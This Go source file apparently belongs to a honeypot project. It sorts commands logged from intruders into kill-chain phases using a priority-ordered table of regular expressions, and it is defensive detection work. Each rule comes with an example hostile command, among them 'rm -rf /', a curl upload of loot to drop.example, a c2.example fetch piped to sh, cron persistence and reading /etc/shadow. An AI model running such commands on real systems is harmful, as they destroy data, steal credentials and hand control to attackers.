package campaign

import (
	"regexp"
	"strings"

	"github.com/decnet/decnet/internal/cluster/ukc"
	"github.com/decnet/decnet/internal/services"
)

// maxClassifyBytes caps the command text the rule table reads.
const maxClassifyBytes = 4096

// PhaseRule is one row of the command classification table: a simple
// command (one part of a command line between ; & | or a newline, with
// sudo, nohup, env assignments and a directory prefix removed) that matches
// Pattern is of phase Phase.
type PhaseRule struct {
	Phase   ukc.Phase
	Pattern *regexp.Regexp
	// Example is a command the rule matches, for the documentation and the
	// tests.
	Example string
}

// PhaseRules is the classification table, in priority order: a command
// line takes the phase of the first rule that matches any of its simple
// commands. Destructive and exfiltrating rules come first, so that
// "tar czf x /home; curl -T x https://drop/" is exfiltration, not
// collection. Commands that match no rule (cd, ls -la on a home directory,
// echo, exit) have no phase and leave the timeline unchanged.
var PhaseRules = []PhaseRule{
	{ukc.Impact, re(`^(rm\s+-[a-z]*r[a-z]*f?[a-z]*\s+/\s*$|rm\s+-[a-z]*f[a-z]*r[a-z]*\s+/\s*$|mkfs(\.\w+)?\s|dd\s.*of=/dev/(sd|nvme|vd|hd)|shred\s|wipefs\s|kill\s+-9\s+-1)`), "rm -rf /"},
	{ukc.Exfiltration, re(`^(curl(\s.*)?\s(-T|--upload-file|-F)\s|curl\s.*--data-binary\s+@|wget\s.*--post-file|nc\s.*<\s*\S|rsync\s.*\s\S+@\S+:|ftp\s.*put\s)`), "curl -T /tmp/loot.tgz https://drop.example/"},
	{ukc.Persistence, re(`^(crontab(\s|$)|.*/etc/cron|.*>>?\s*\S*authorized_keys|systemctl\s+enable|update-rc\.d|.*/etc/rc\.local|useradd\s|adduser\s|.*>>?\s*\S*\.(bashrc|profile|bash_profile))`), "echo '* * * * * /tmp/.x' | crontab -"},
	{ukc.DefenseEvasion, re(`^(history\s+-c|unset\s+HISTFILE|export\s+HISTFILE=/dev/null|rm\s.*(/var/log|wtmp|btmp|lastlog|\.bash_history)|chattr\s|touch\s+-r\s|setenforce\s+0|iptables\s+-F)`), "history -c"},
	{ukc.LateralMovement, re(`^(ssh|scp|sshpass|psexec(\.py)?|smbexec(\.py)?|wmiexec(\.py)?|evil-winrm|xfreerdp)\s`), "ssh -i /tmp/.k root@10.0.0.5"},
	{ukc.CommandAndControl, re(`^((curl|wget|fetch|tftp|ftpget|lwp-download)\s.*([a-z][a-z0-9+.-]*://|\b\d{1,3}(\.\d{1,3}){3}\b|\b[a-z0-9-]+(\.[a-z0-9-]+)+(:\d+)?/)|(nc|ncat|netcat|socat|telnet)\s+\S|.*/dev/(tcp|udp)/|.*\bbash\s+-i\b)`), "curl -s http://c2.example/beacon | sh"},
	{ukc.PrivilegeEscalation, re(`^(sudo\s+-l|su(\s|$)|pkexec(\s|$)|find\s.*-perm|getcap\s|.*linpeas|.*linux-exploit-suggester)`), "sudo -l"},
	{ukc.CredentialAccess, re(`^(.*(/etc/shadow|/etc/gshadow|id_rsa|id_ed25519|known_hosts|\.aws/credentials|\.git-credentials|\.pgpass|\.my\.cnf)|unshadow\s|john\s|hashcat\s|mimikatz)`), "cat /etc/shadow"},
	{ukc.Collection, re(`^(tar\s+-?[a-z]*c|zip\s|7z\s+a\s|mysqldump\s|pg_dump(all)?\s|sqlite3\s.*\.dump)`), "tar czf /tmp/loot.tgz /home"},
	{ukc.Execution, re(`^(\./\S+|(sh|bash|dash|python[0-9.]*|perl|php|ruby|node)\s+\S|chmod\s+\+?[0-7]*x)`), "./payload"},
	{ukc.Discovery, re(`^(whoami|id|uname|hostname|ifconfig|ip\s+(a|addr|r|route|link|neigh)|arp|netstat|ss|ps|w|who|last|lscpu|lsblk|df|free|uptime|nproc|env|printenv|mount|route|lsb_release)(\s|$)|^cat\s+/(etc/(passwd|group|hosts|os-release|issue|resolv\.conf|\S*-release)|proc/(cpuinfo|meminfo|version))|^ls(\s|$)`), "whoami"},
}

func re(s string) *regexp.Regexp { return regexp.MustCompile(s) }

// ClassifyCommand returns the kill-chain phase of a shell command line by
// PhaseRules, or false when no rule matches.
func ClassifyCommand(line string) (ukc.Phase, bool) {
	if len(line) > maxClassifyBytes {
		line = line[:maxClassifyBytes]
	}
	parts := simpleCommands(line)
	if len(parts) == 0 {
		return "", false
	}
	for _, r := range PhaseRules {
		for _, p := range parts {
			if r.Pattern.MatchString(p) {
				return r.Phase, true
			}
		}
	}
	return "", false
}

// ClassifyEvent returns the phase of one logged service event: a shell
// command by ClassifyCommand, an HTTP request carrying a payload as
// delivery. Connections, logins, fingerprints and disconnects have no
// phase: they are how any operator gets in, so counting them would hide the
// first real step an operator takes on a decky.
func ClassifyEvent(kind string, fields map[string]string) (ukc.Phase, bool) {
	switch kind {
	case services.KindCommand:
		return ClassifyCommand(fields[services.FieldCommand])
	case services.KindRequest:
		if fields[services.FieldPayloadSHA256] != "" {
			return ukc.Delivery, true
		}
	}
	return "", false
}

// simpleCommands splits a command line at ; & | and newlines and strips
// what does not change the command's meaning: sudo and nohup prefixes, env
// assignments, and the directory of the program. Quotes are not honoured:
// the split only needs to be good enough to find the programs.
func simpleCommands(line string) []string {
	fields := strings.FieldsFunc(line, func(r rune) bool {
		return r == ';' || r == '&' || r == '|' || r == '\n' || r == '\r' || r == '`' || r == '(' || r == ')'
	})
	out := fields[:0]
	for _, f := range fields {
		words := strings.Fields(f)
		for len(words) > 0 {
			w := words[0]
			if w == "sudo" && (len(words) < 2 || words[1] != "-l") || w == "nohup" || w == "exec" || w == "busybox" || w == "command" ||
				(strings.Contains(w, "=") && !strings.HasPrefix(w, "-") && !strings.Contains(w, "/")) {
				words = words[1:]
				continue
			}
			break
		}
		if len(words) == 0 {
			continue
		}
		if i := strings.LastIndexByte(words[0], '/'); i >= 0 && !strings.HasPrefix(words[0], "./") && i+1 < len(words[0]) {
			words[0] = words[0][i+1:]
		}
		out = append(out, strings.Join(words, " "))
	}
	return out
}
